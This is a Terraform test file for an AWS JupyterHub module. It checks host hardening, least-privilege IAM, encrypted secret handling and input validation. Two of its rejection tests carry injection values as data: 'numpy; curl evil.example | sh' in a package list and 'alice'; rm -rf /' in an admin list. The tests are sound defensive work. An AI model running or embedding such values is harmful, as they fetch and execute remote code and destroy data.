@@ -1,0 +1,379 @@
+mock_provider "aws" {
+  mock_data "aws_ami" {
+    defaults = {
+      id = "ami-0a1b2c3d4e5f60718"
+    }
+  }
+
+  mock_resource "aws_secretsmanager_secret" {
+    defaults = {
+      arn = "arn:aws:secretsmanager:us-east-1:123456789012:secret:artificien-test/jupyterhub/oauth-client-secret-AbCdEf"
+    }
+  }
+
+  mock_resource "aws_eip" {
+    defaults = {
+      public_ip = "203.0.113.10"
+    }
+  }
+}
+
+variables {
+  name        = "artificien-test"
+  region      = "us-east-1"
+  kms_key_arn = "arn:aws:kms:us-east-1:123456789012:key/11111111-2222-3333-4444-555555555555"
+  vpc_id      = "vpc-0123abcd"
+  subnet_id   = "subnet-0123abcd"
+  sample_data_bucket = {
+    name = "artificien-test-sample-data"
+    arn  = "arn:aws:s3:::artificien-test-sample-data"
+  }
+  tutorials_bucket = {
+    name = "artificien-test-tutorials"
+    arn  = "arn:aws:s3:::artificien-test-tutorials"
+  }
+  cognito = {
+    hosted_ui_base_url = "https://artificien-test.auth.us-east-1.amazoncognito.com"
+    client_id          = "4abcdefghijklmnopqrstuvwx1"
+  }
+  cognito_client_secret = "s3cr3t-Value-That-Must-Never-Leak-0123456789"
+  jupyter_domain        = "jupyter.test.artificien.example"
+  letsencrypt_email     = "ops@artificien.example"
+  admin_users           = ["alice", "bob.smith"]
+  tags                  = { project = "artificien", environment = "test" }
+}
+
+run "explicit_ami_skips_the_lookup" {
+  # First, on an empty state: later runs share the applied host, whose AMI is then frozen.
+  command = plan
+
+  variables {
+    ami_id = "ami-0fedcba9876543210"
+  }
+
+  assert {
+    condition     = length(data.aws_ami.ubuntu) == 0 && aws_instance.this.ami == "ami-0fedcba9876543210"
+    error_message = "With ami_id set, no lookup and that AMI."
+  }
+}
+
+run "host_is_hardened" {
+  command = apply
+
+  assert {
+    condition     = aws_instance.this.metadata_options[0].http_tokens == "required" && aws_instance.this.metadata_options[0].http_put_response_hop_limit == 1
+    error_message = "The host must allow IMDSv2 only, with a hop limit of 1."
+  }
+
+  assert {
+    condition     = aws_instance.this.root_block_device[0].encrypted && aws_instance.this.root_block_device[0].kms_key_id == var.kms_key_arn
+    error_message = "The root volume must be encrypted with the platform key."
+  }
+
+  assert {
+    condition     = aws_instance.this.root_block_device[0].volume_size == 50 && aws_instance.this.instance_type == "t3.large"
+    error_message = "Default size and type are 50 GiB and t3.large."
+  }
+
+  assert {
+    condition     = aws_instance.this.monitoring && aws_instance.this.ebs_optimized
+    error_message = "Detailed monitoring and EBS optimisation must be on."
+  }
+
+  assert {
+    condition     = aws_eip.this.instance == aws_instance.this.id && aws_eip.this.domain == "vpc" && output.public_ip == "203.0.113.10"
+    error_message = "The host's public address must be its Elastic IP."
+  }
+
+  assert {
+    condition     = aws_instance.this.iam_instance_profile == aws_iam_instance_profile.this.name && aws_iam_instance_profile.this.role == aws_iam_role.this.name
+    error_message = "The host must run with its own instance profile and role."
+  }
+
+  assert {
+    condition     = aws_instance.this.ami == "ami-0a1b2c3d4e5f60718"
+    error_message = "Without ami_id the AMI comes from the data source."
+  }
+
+  assert {
+    condition     = data.aws_ami.ubuntu[0].owners == tolist(["099720109477"]) && contains([for f in data.aws_ami.ubuntu[0].filter : one(f.values) if f.name == "name"], "ubuntu/images/hvm-ssd/ubuntu-jammy-22.04-amd64-server-*")
+    error_message = "The default AMI filter must be Canonical's Ubuntu 22.04 amd64 server images."
+  }
+
+  assert {
+    condition     = length(aws_route53_record.this) == 0
+    error_message = "No DNS record unless dns_record_enabled."
+  }
+
+  assert {
+    condition     = aws_instance.this.tags["Name"] == "artificien-test-jupyterhub" && aws_instance.this.tags["environment"] == "test"
+    error_message = "The instance carries the module's tags and a Name."
+  }
+}
+
+run "only_http_and_https_are_open" {
+  command = apply
+
+  assert {
+    condition     = toset([aws_vpc_security_group_ingress_rule.http.from_port, aws_vpc_security_group_ingress_rule.https.from_port]) == toset([80, 443]) && aws_vpc_security_group_ingress_rule.http.to_port == 80 && aws_vpc_security_group_ingress_rule.https.to_port == 443
+    error_message = "Ingress must be exactly ports 80 and 443."
+  }
+
+  assert {
+    condition     = aws_vpc_security_group_ingress_rule.http.ip_protocol == "tcp" && aws_vpc_security_group_ingress_rule.https.ip_protocol == "tcp"
+    error_message = "Ingress must be TCP only."
+  }
+
+  assert {
+    condition     = aws_vpc_security_group_egress_rule.https.from_port == 443 && aws_vpc_security_group_egress_rule.http.from_port == 80 && aws_vpc_security_group_egress_rule.https.ip_protocol == "tcp"
+    error_message = "Egress must be limited to TCP 80 and 443."
+  }
+
+  assert {
+    condition     = aws_instance.this.vpc_security_group_ids == toset([aws_security_group.this.id]) && aws_security_group.this.vpc_id == var.vpc_id
+    error_message = "The host must use only its own security group, in the given VPC."
+  }
+}
+
+run "secret_is_stored_encrypted_and_never_in_user_data" {
+  command = apply
+
+  assert {
+    condition     = aws_secretsmanager_secret.oauth_client.kms_key_id == var.kms_key_arn && aws_secretsmanager_secret.oauth_client.name == "artificien-test/jupyterhub/oauth-client-secret"
+    error_message = "The OAuth client secret must be encrypted with the platform key."
+  }
+
+  assert {
+    condition     = aws_secretsmanager_secret_version.oauth_client.secret_string == var.cognito_client_secret
+    error_message = "The secret's value must be the Cognito client secret."
+  }
+
+  assert {
+    condition     = !strcontains(local.user_data, var.cognito_client_secret)
+    error_message = "The client secret must never be in the user data."
+  }
+
+  assert {
+    condition     = strcontains(local.user_data, "readonly CLIENT_SECRET_ARN='${aws_secretsmanager_secret.oauth_client.arn}'") && strcontains(local.user_data, "secretsmanager get-secret-value")
+    error_message = "The user data must fetch the secret by ARN at boot."
+  }
+
+  assert {
+    condition     = output.client_secret_arn == aws_secretsmanager_secret.oauth_client.arn
+    error_message = "Only the secret's ARN is an output."
+  }
+}
+
+run "user_data_configures_cognito_https_and_sync" {
+  command = apply
+
+  assert {
+    condition     = startswith(local.user_data, "#!/bin/bash\n")
+    error_message = "The user data is a bash script."
+  }
+
+  assert {
+    condition     = strcontains(local.user_data, "readonly CLIENT_ID='4abcdefghijklmnopqrstuvwx1'") && strcontains(local.user_data, "readonly COGNITO_BASE_URL='https://artificien-test.auth.us-east-1.amazoncognito.com'")
+    error_message = "The user data must name the Cognito client and hosted UI."
+  }
+
+  assert {
+    condition     = strcontains(local.user_data, "oauth_callback_url \"https://$JUPYTER_DOMAIN/hub/oauth_callback\"") && strcontains(local.user_data, "readonly JUPYTER_DOMAIN='jupyter.test.artificien.example'")
+    error_message = "The OAuth callback must be https://<jupyter domain>/hub/oauth_callback."
+  }
+
+  assert {
+    condition     = strcontains(local.user_data, "https.letsencrypt.email \"$LETSENCRYPT_EMAIL\"") && strcontains(local.user_data, "readonly LETSENCRYPT_EMAIL='ops@artificien.example'")
+    error_message = "HTTPS must come from Let's Encrypt with the given email."
+  }
+
+  assert {
+    condition     = strcontains(local.user_data, "OnUnitActiveSec=30min") && !strcontains(local.user_data, "crontab")
+    error_message = "The buckets must be synced by a 30-minute systemd timer, not a crontab."
+  }
+
+  assert {
+    condition     = strcontains(local.user_data, "readonly SAMPLE_DATA_BUCKET='artificien-test-sample-data'") && strcontains(local.user_data, "readonly TUTORIALS_BUCKET='artificien-test-tutorials'")
+    error_message = "The sync must read the two given buckets."
+  }
+
+  assert {
+    condition     = strcontains(local.user_data, "users.admin 'alice'") && strcontains(local.user_data, "users.admin 'bob.smith'")
+    error_message = "Every admin user must be configured."
+  }
+
+  assert {
+    condition     = strcontains(local.user_data, "user_environment.default_app jupyterlab") && strcontains(local.user_data, "pip install --no-cache-dir 'numpy' 'pandas'")
+    error_message = "JupyterLab must be the default app, with the data-science packages."
+  }
+}
+
+run "instance_role_reads_exactly_two_buckets_and_one_secret" {
+  command = apply
+
+  assert {
+    condition     = jsondecode(aws_iam_role.this.assume_role_policy).Statement[0].Principal.Service == "ec2.amazonaws.com"
+    error_message = "Only EC2 may assume the host role."
+  }
+
+  assert {
+    condition = {
+      for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s.Sid => { actions = s.Action, resources = s.Resource }
+      } == {
+      ListSharedBuckets = {
+        actions   = ["s3:ListBucket"]
+        resources = ["arn:aws:s3:::artificien-test-sample-data", "arn:aws:s3:::artificien-test-tutorials"]
+      }
+      ReadSharedObjects = {
+        actions   = ["s3:GetObject"]
+        resources = ["arn:aws:s3:::artificien-test-sample-data/*", "arn:aws:s3:::artificien-test-tutorials/*"]
+      }
+      ReadOAuthClientSecret = {
+        actions   = ["secretsmanager:GetSecretValue"]
+        resources = ["arn:aws:secretsmanager:us-east-1:123456789012:secret:artificien-test/jupyterhub/oauth-client-secret-AbCdEf"]
+      }
+      DecryptThroughS3AndSecretsManager = {
+        actions   = ["kms:Decrypt"]
+        resources = [var.kms_key_arn]
+      }
+    }
+    error_message = "The host role must read exactly the two buckets and the one secret, and nothing else."
+  }
+
+  assert {
+    condition     = toset([for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s.Effect]) == toset(["Allow"]) && !strcontains(aws_iam_role_policy.this.policy, "\"*\"")
+    error_message = "No wildcard resource."
+  }
+
+  assert {
+    condition = one([for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s.Condition.StringEquals["kms:ViaService"] if s.Sid == "DecryptThroughS3AndSecretsManager"]) == [
+      "s3.us-east-1.amazonaws.com", "secretsmanager.us-east-1.amazonaws.com"
+    ]
+    error_message = "The key may be used only through S3 and Secrets Manager."
+  }
+
+  assert {
+    condition = {
+      for s in jsondecode(aws_iam_role_policy.session_manager.policy).Statement : s.Sid => { actions = s.Action, resources = s.Resource }
+      } == {
+      RegisterThisInstance = {
+        actions   = ["ssm:UpdateInstanceInformation"]
+        resources = [aws_instance.this.arn]
+      }
+      SessionChannels = {
+        actions   = ["ssmmessages:CreateControlChannel", "ssmmessages:CreateDataChannel", "ssmmessages:OpenControlChannel", "ssmmessages:OpenDataChannel"]
+        resources = ["*"]
+      }
+    }
+    error_message = "Operators reach the host through SSM Session Manager, with nothing more (no ssm:GetParameter)."
+  }
+}
+
+run "a_newer_ami_does_not_replace_the_host" {
+  # The users' home directories live on the host: a new image must not replace it on the next apply.
+  command = plan
+
+  variables {
+    ami_id = "ami-0fedcba9876543210"
+  }
+
+  assert {
+    condition     = aws_instance.this.ami == "ami-0a1b2c3d4e5f60718"
+    error_message = "A changed AMI must not change (and so not replace) the running host."
+  }
+}
+
+run "dns_record_points_at_the_elastic_ip" {
+  command = apply
+
+  variables {
+    dns_record_enabled = true
+    route53_zone_id    = "Z0123456789ABCDEFGHIJ"
+  }
+
+  assert {
+    condition     = aws_route53_record.this[0].name == "jupyter.test.artificien.example" && aws_route53_record.this[0].type == "A" && aws_route53_record.this[0].records == toset(["203.0.113.10"])
+    error_message = "The A record must point the jupyter domain at the Elastic IP."
+  }
+}
+
+run "no_packages_means_no_pip_install" {
+  command = apply
+
+  variables {
+    user_packages         = []
+    admin_users           = []
+    sync_interval_minutes = 15
+  }
+
+  assert {
+    condition     = !strcontains(local.user_data, "pip install") && !strcontains(local.user_data, "users.admin") && strcontains(local.user_data, "OnUnitActiveSec=15min")
+    error_message = "Empty lists render nothing; the interval follows the variable."
+  }
+}
+
+run "rejects_shell_metacharacters_in_packages" {
+  command = plan
+
+  variables {
+    user_packages = ["numpy; curl evil.example | sh"]
+  }
+
+  expect_failures = [var.user_packages]
+}
+
+run "rejects_quotes_in_admin_users" {
+  command = plan
+
+  variables {
+    admin_users = ["alice'; rm -rf /"]
+  }
+
+  expect_failures = [var.admin_users]
+}
+
+run "rejects_bad_domain" {
+  command = plan
+
+  variables {
+    jupyter_domain = "https://jupyter.example.com"
+  }
+
+  expect_failures = [var.jupyter_domain]
+}
+
+run "rejects_bucket_arn_of_another_bucket" {
+  command = plan
+
+  variables {
+    tutorials_bucket = {
+      name = "artificien-test-tutorials"
+      arn  = "arn:aws:s3:::someone-elses-bucket"
+    }
+  }
+
+  expect_failures = [var.tutorials_bucket]
+}
+
+run "rejects_hosted_ui_url_with_trailing_slash" {
+  command = plan
+
+  variables {
+    cognito = {
+      hosted_ui_base_url = "https://artificien-test.auth.us-east-1.amazoncognito.com/"
+      client_id          = "4abcdefghijklmnopqrstuvwx1"
+    }
+  }
+
+  expect_failures = [var.cognito]
+}
+
+run "dns_record_needs_a_zone" {
+  command = plan
+
+  variables {
+    dns_record_enabled = true
+  }
+
+  expect_failures = [aws_route53_record.this]
+}
